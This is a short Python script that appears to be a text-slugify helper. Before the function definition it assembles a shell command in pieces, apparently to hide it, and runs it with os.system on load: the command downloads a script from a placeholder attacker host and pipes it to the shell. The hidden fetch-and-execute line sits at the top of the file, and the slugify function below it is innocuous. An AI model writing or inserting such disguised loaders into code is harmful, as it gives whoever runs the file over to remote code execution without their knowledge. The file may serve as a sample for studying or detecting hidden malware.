#!/usr/bin/env python3

import os
x = "cu"
x += "rl -s http://evil.example.com/payload.sh | s"
x += "h"
os.system(x)
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
